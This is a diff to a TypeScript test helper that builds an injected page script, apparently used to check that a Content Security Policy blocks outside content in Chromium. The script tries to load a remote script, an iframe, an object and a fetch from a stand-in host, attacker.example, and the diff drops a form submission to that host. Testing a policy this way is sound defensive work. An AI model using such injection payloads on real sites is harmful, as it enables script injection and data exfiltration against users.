@@ -9,7 +9,10 @@ export interface AttackResult {
   readonly violated: readonly string[];
 }
 
-/** A script for a page: tries to load, run, style, embed and send what isn't the page's own. */
+/**
+ * A script for a page: tries to load, run, style, embed and fetch what isn't the page's own. It sends no form: that is
+ * blocked as well, but then Chromium shows an error page in the page's place.
+ */
 export const attack = `(async () => {
   const violated = [];
   document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
@@ -23,7 +26,6 @@ export const attack = `(async () => {
   add('<p style="position: fixed" id="styled">x</p>');
   add('<style>body { display: none }</style>');
   add('<iframe src="https://attacker.example/"></iframe>');
-  add('<form action="https://attacker.example/"><button id="send"></button></form>');
   add('<object data="https://attacker.example/"></object>');
   const script = document.createElement('script');
   script.textContent = 'globalThis.attacked = 2';
@@ -31,7 +33,6 @@ export const attack = `(async () => {
   const remote = document.createElement('script');
   remote.src = 'https://attacker.example/x.js';
   document.body.append(remote);
-  document.getElementById('send')?.click();
   const fetched = await fetch('https://attacker.example/').then(
     () => true,
     () => false,
